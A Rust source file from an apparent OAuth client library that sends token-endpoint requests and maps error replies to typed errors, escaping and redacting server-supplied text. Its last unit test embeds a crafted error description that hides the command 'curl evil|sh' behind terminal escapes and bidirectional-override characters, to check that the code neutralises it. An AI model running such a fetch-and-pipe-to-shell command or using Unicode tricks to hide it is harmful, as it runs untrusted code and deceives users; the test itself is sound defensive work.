//! One token-endpoint request (RFC 6749 §4-6, RFC 8628 §3.4, RFC 8693) and the
//! mapping of OAuth error replies to hubauth errors. Every grant goes through
//! [`token_request`]; there is no second implementation.

use std::time::Instant;

use serde_json::{Map, Value};

use crate::error::{Error, ErrorKind, Result};
use crate::net::{self, Body, Request, Response};
use crate::secret::Secret;

/// How the client authenticates at the token endpoint.
#[derive(Clone, Debug)]
pub struct Client {
    pub id: String,
    /// None = public client (`token_endpoint_auth_method=none`).
    pub secret: Option<Secret>,
}

impl Client {
    pub fn public(id: impl Into<String>) -> Self {
        Client {
            id: id.into(),
            secret: None,
        }
    }

    /// Adds the client's credentials to a form: client_id always (public
    /// clients and many servers want it), the secret as client_secret_post.
    pub fn add_to_form(&self, form: &mut Vec<(String, String)>) {
        form.push(("client_id".into(), self.id.clone()));
        if let Some(secret) = &self.secret {
            form.push(("client_secret".into(), secret.expose().to_string()));
        }
    }
}

/// An error reply from an OAuth endpoint (`error`, `error_description`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OAuthError {
    pub status: u16,
    pub error: String,
    pub description: Option<String>,
}

/// Longest piece of an `error` or `error_description` quoted.
const QUOTE_LIMIT: usize = 300;

impl OAuthError {
    /// Reads `{"error": ..., "error_description": ...}` from an error reply.
    /// Both are kept as they may be shown: the request's secrets redacted
    /// (a proxy may echo the request), unprintable characters escaped, and
    /// bounded in length.
    pub fn from_reply(reply: &Response) -> Option<Self> {
        let value: Value = serde_json::from_slice(&reply.body).ok()?;
        let shown = |text: &str| crate::log::quote(&reply.sent_secrets.redact(text), QUOTE_LIMIT);
        let error = shown(value.get("error")?.as_str()?);
        let description = value
            .get("error_description")
            .and_then(Value::as_str)
            .map(shown);
        Some(OAuthError {
            status: reply.status,
            error,
            description,
        })
    }

    /// The hubauth error for this reply: a refused grant is `Authentication`,
    /// a broken or unavailable server is `Server`.
    pub fn into_error(self, what: &str) -> Error {
        let kind = match self.error.as_str() {
            "invalid_grant"
            | "access_denied"
            | "expired_token"
            | "invalid_client"
            | "unauthorized_client"
            | "invalid_token"
            | "consent_required"
            | "login_required" => ErrorKind::Authentication,
            _ => ErrorKind::Server,
        };
        let definite = is_definite(&self.error);
        let detail = match &self.description {
            Some(d) => format!("{} ({d})", self.error),
            None => self.error,
        };
        let error = Error::new(kind, format!("{what}: the server refused: {detail}")).refused();
        if definite { error.definite() } else { error }
    }
}

/// OAuth errors that asking again cannot change (RFC 6749 §4.1.2.1, §5.2;
/// RFC 8628 §3.5): the user denied, or the client, its secret or the scope
/// it asks for is not accepted. A login that ends with one is not tried
/// again.
pub fn is_definite(error: &str) -> bool {
    matches!(
        error,
        "access_denied" | "invalid_client" | "unauthorized_client" | "invalid_scope"
    )
}

/// A successful token reply; it lives in the leaf [`crate::reply`] so the
/// stores can take one too.
pub use crate::reply::TokenReply;

/// The outcome of a token request: a token reply, or the server's OAuth error.
pub enum TokenOutcome {
    Token(TokenReply),
    Refused(OAuthError),
}

/// POSTs `form` (plus the client's credentials) to a token endpoint.
/// A JSON object with `access_token` is a success; an OAuth error reply is
/// returned as `Refused` for the caller to interpret (device polling needs the
/// codes); anything else is an error.
pub fn token_request(
    endpoint: &str,
    client: &Client,
    mut form: Vec<(String, String)>,
    deadline: Option<Instant>,
    what: &str,
) -> Result<TokenOutcome> {
    client.add_to_form(&mut form);
    let response = net::send(
        Request::post(endpoint, Body::Form(form))
            .header("accept", "application/json")
            .deadline(deadline),
    )?;
    parse_token_reply(&response, what)
}

/// Reads a token endpoint's reply: the parsing half of [`token_request`],
/// without I/O.
pub fn parse_token_reply(reply: &Response, what: &str) -> Result<TokenOutcome> {
    let status = reply.status;
    if reply.is_success() {
        let value = net::parse_json(&reply.body, what)?;
        if !value.is_object() {
            return Err(Error::server(format!(
                "{what}: the reply is not a JSON object"
            )));
        }
        return TokenReply::from_json(value, what).map(TokenOutcome::Token);
    }
    match OAuthError::from_reply(reply) {
        Some(refusal) => Ok(TokenOutcome::Refused(refusal)),
        None => Err(Error::server_reply(
            if status >= 500 {
                ErrorKind::Server
            } else {
                ErrorKind::Authentication
            },
            what,
            reply,
        )),
    }
}

/// Like [`token_request`], with a refusal turned into an error.
pub fn token_request_ok(
    endpoint: &str,
    client: &Client,
    form: Vec<(String, String)>,
    deadline: Option<Instant>,
    what: &str,
) -> Result<TokenReply> {
    match token_request(endpoint, client, form, deadline, what)? {
        TokenOutcome::Token(object) => Ok(object),
        TokenOutcome::Refused(refusal) => Err(refusal.into_error(what)),
    }
}

/// A string field of a JSON object (a device authorization reply).
pub fn field<'a>(object: &'a Map<String, Value>, key: &str) -> Option<&'a str> {
    object.get(key).and_then(Value::as_str)
}
/// A numeric field of a JSON object (some servers send numbers as strings).
pub use crate::jwt::number;

/// Form fields from string pairs.
pub fn form(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reply(status: u16, body: &[u8]) -> Response {
        Response::from_parts(status, body)
    }

    #[test]
    fn oauth_errors_map_to_kinds() {
        let e = OAuthError::from_reply(&reply(
            400,
            br#"{"error":"invalid_grant","error_description":"grant request is invalid"}"#,
        ))
        .unwrap()
        .into_error("refresh");
        assert_eq!(e.kind(), ErrorKind::Authentication);
        assert!(
            e.message()
                .contains("invalid_grant (grant request is invalid)")
        );
        let e = OAuthError::from_reply(&reply(500, br#"{"error":"server_error"}"#))
            .unwrap()
            .into_error("x");
        assert_eq!(e.kind(), ErrorKind::Server);
        assert!(OAuthError::from_reply(&reply(400, b"<html>")).is_none());
    }

    #[test]
    fn oauth_errors_are_shown_escaped() {
        let body = r#"{"error":"invalid_client\u001b[31m",
            "error_description":"Login\u202e \u2066run: curl evil|sh\u2069 \u200b\udb40\udc41"}"#;
        let e = OAuthError::from_reply(&reply(400, body.as_bytes()))
            .unwrap()
            .into_error("refresh");
        let shown = e.message();
        assert!(!shown.chars().any(crate::log::is_unprintable), "{shown:?}");
        assert!(shown.contains("invalid_client\\u{1b}[31m"), "{shown}");
        assert!(shown.contains("Login\\u{202e} \\u{2066}run"), "{shown}");
        assert!(shown.contains("\\u{200b}\\u{e0041}"), "{shown}");
    }
}
